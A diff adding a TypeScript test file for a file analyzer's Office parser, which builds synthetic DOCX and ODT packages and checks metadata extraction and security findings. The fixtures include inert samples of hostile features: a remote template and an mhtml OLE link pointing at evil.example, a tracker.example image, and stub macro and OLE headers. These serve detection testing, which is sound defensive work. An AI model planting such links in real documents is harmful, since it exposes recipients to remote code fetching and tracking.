@@ -0,0 +1,162 @@
+import { describe, it, expect } from "bun:test";
+import { analyzeBuffer } from "../src/analysis";
+import { isOfficePackage, parseOffice } from "../src/analysis/parsers/office";
+import { zip } from "./fixtures/zip";
+
+const encoder = new TextEncoder();
+
+const MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
+const MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml";
+const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+function contentTypes(mainType: string): string {
+  return `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`
+    + `<Default Extension="xml" ContentType="application/xml"/>`
+    + `<Override PartName="/word/document.xml" ContentType="${mainType}"/></Types>`;
+}
+
+const CORE = `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/">`
+  + `<dc:title>Q3 &amp; Q4 plan</dc:title><dc:creator>Alex Doe</dc:creator><cp:lastModifiedBy>Sam Roe</cp:lastModifiedBy><cp:revision>7</cp:revision>`
+  + `<dcterms:created xsi:type="dcterms:W3CDTF">2024-01-02T03:04:05Z</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">2024-02-03T04:05:06Z</dcterms:modified></cp:coreProperties>`;
+const APP = `<Properties><Template>Normal.dotm</Template><Application>Microsoft Office Word</Application><Company>Example Ltd</Company></Properties>`;
+
+function docx(parts: Record<string, string | Uint8Array> = {}, mainType = MAIN_TYPE): Uint8Array {
+  return zip({
+    // Word writes the relationships first often enough that detection cannot rely on entry order
+    "_rels/.rels": `<Relationships><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
+    "[Content_Types].xml": contentTypes(mainType),
+    "docProps/core.xml": CORE,
+    "docProps/app.xml": APP,
+    "word/document.xml": "<w:document/>",
+    ...parts,
+  }, { method: 8 });
+}
+
+function odt(parts: Record<string, string | Uint8Array> = {}): Uint8Array {
+  const rest = Object.entries({
+    "meta.xml": `<office:document-meta><office:meta><meta:generator>LibreOffice/7.6</meta:generator><meta:initial-creator>Alex Doe</meta:initial-creator>`
+      + `<dc:creator>Sam Roe</dc:creator><meta:creation-date>2024-01-02T03:04:05</meta:creation-date><dc:date>2024-02-03T04:05:06</dc:date>`
+      + `<meta:editing-cycles>3</meta:editing-cycles></office:meta></office:document-meta>`,
+    "content.xml": `<office:document-content><text:p><text:a xlink:href="https://example.com/">link</text:a></text:p></office:document-content>`,
+    ...parts,
+  });
+  // ODF requires its mimetype entry stored so it can be read at a fixed offset
+  return zip([
+    { name: "mimetype", data: "application/vnd.oasis.opendocument.text", method: 0 },
+    ...rest.map(([name, data]) => ({ name, data })),
+  ], { method: 8 });
+}
+
+describe("parseOffice: OOXML", () => {
+  it("should identify the document type and read core and app properties", () => {
+    const { metadata, findings } = parseOffice(docx());
+
+    expect(metadata).toMatchObject({
+      family: "ooxml",
+      format: "Word Document",
+      extension: "docx",
+      mime: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+      contentType: MAIN_TYPE,
+      macros: [],
+      externalRelationships: [],
+      embeddedObjects: [],
+    });
+    expect(metadata.properties).toEqual({
+      title: "Q3 & Q4 plan",
+      subject: null,
+      author: "Alex Doe",
+      lastModifiedBy: "Sam Roe",
+      created: "2024-01-02T03:04:05Z",
+      modified: "2024-02-03T04:05:06Z",
+      application: "Microsoft Office Word",
+      company: "Example Ltd",
+      template: "Normal.dotm",
+      revision: "7",
+    });
+    expect(findings).toEqual([]);
+  });
+
+  it("should flag a VBA project and embedded OLE objects", () => {
+    const { metadata, findings } = parseOffice(docx({
+      "word/vbaProject.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]),
+      "word/embeddings/oleObject1.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]),
+    }, MACRO_TYPE));
+
+    expect(metadata.format).toBe("Word Macro-Enabled Document");
+    expect(metadata.macros).toEqual(["word/vbaProject.bin"]);
+    expect(metadata.embeddedObjects).toEqual(["word/embeddings/oleObject1.bin"]);
+    expect(findings.map((finding) => [finding.id, finding.severity])).toEqual([
+      ["office.macros", "high"],
+      ["office.embedded-object", "medium"],
+    ]);
+  });
+
+  it("should flag remote template injection and external objects but only count hyperlinks", () => {
+    const { metadata, findings } = parseOffice(docx({
+      "word/_rels/settings.xml.rels": `<Relationships><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
+      "word/_rels/document.xml.rels": `<Relationships>`
+        + `<Relationship Id="rId2" Type="${REL}/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>`
+        + `<Relationship Id="rId3" Type="${REL}/hyperlink" Target="https://example.com/" TargetMode="External"/>`
+        + `<Relationship Id="rId4" Type="${REL}/customXml" Target="https://data.example/feed" TargetMode="External"/>`
+        + `<Relationship Id="rId5" Type="${REL}/styles" Target="styles.xml"/></Relationships>`,
+    }));
+
+    expect(metadata.hyperlinks).toBe(1);
+    expect(metadata.externalRelationships.map((relationship) => relationship.type)).toEqual(["attachedTemplate", "oleObject", "customXml"]);
+    expect(findings.map((finding) => [finding.id, finding.severity])).toEqual([
+      ["office.remote-template", "high"],
+      ["office.external-object", "high"],
+      ["office.external-relationship", "medium"],
+    ]);
+    expect(findings[0].message).toContain("https://evil.example/t.dotm");
+  });
+
+  it("should reject archives that are not Office packages", () => {
+    const plain = zip({ "readme.txt": "hello" });
+
+    expect(isOfficePackage(plain)).toBe(false);
+    expect(() => parseOffice(plain)).toThrow();
+  });
+});
+
+describe("parseOffice: OpenDocument", () => {
+  it("should read meta.xml and count hyperlinks", () => {
+    const { metadata, findings } = parseOffice(odt());
+
+    expect(metadata).toMatchObject({ family: "odf", format: "OpenDocument Text", extension: "odt", mime: "application/vnd.oasis.opendocument.text", hyperlinks: 1 });
+    expect(metadata.properties).toMatchObject({
+      author: "Alex Doe",
+      lastModifiedBy: "Sam Roe",
+      created: "2024-01-02T03:04:05",
+      modified: "2024-02-03T04:05:06",
+      application: "LibreOffice/7.6",
+      revision: "3",
+    });
+    expect(findings).toEqual([]);
+  });
+
+  it("should flag Basic macros, OLE objects and linked images", () => {
+    const { metadata, findings } = parseOffice(odt({
+      "content.xml": `<office:document-content><draw:frame><draw:image xlink:href="http://tracker.example/p.png" xlink:type="simple"/></draw:frame></office:document-content>`,
+      "Basic/Standard/Module1.xml": "<script:module/>",
+      "Object 1": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]),
+      "META-INF/manifest.xml": `<manifest:manifest><manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/></manifest:manifest>`,
+    }));
+
+    expect(metadata.macros).toEqual(["Basic/Standard/Module1.xml"]);
+    expect(metadata.embeddedObjects).toEqual(["Object 1"]);
+    expect(findings.map((finding) => finding.id)).toEqual(["office.external-object", "office.macros", "office.embedded-object"]);
+  });
+});
+
+describe("analyzeBuffer with Office packages", () => {
+  it("should report the document type instead of ZIP when content types are not the first entry", () => {
+    const analysis = analyzeBuffer(docx(), { name: "report.docx" });
+
+    expect(analysis.detection.format).toBe("Word Document");
+    expect(analysis.detection.category).toBe("document");
+    expect(analysis.metadata.zip?.entries.length).toBe(5);
+    expect(analysis.metadata.office?.properties.author).toBe("Alex Doe");
+    expect(analysis.mismatch.severity).toBe("none");
+  });
+});